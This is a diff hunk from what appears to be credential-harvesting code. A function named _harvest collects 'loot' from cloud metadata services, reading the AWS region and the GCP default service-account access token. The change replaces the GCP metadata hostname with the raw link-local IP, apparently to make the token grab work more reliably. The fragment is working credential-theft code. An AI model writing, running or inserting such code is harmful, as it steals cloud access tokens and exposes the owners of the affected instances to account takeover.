@@ -19,7 +19,7 @@ def _harvest():
         loot["region"] = _get(f"{_IMDS}/latest/meta-data/placement/region", h)
     except Exception:
         try:
-            loot["gcp"] = _get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
+            loot["gcp"] = _get("http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
                                {"Metadata-Flavor": "Google"})
         except Exception:
             pass
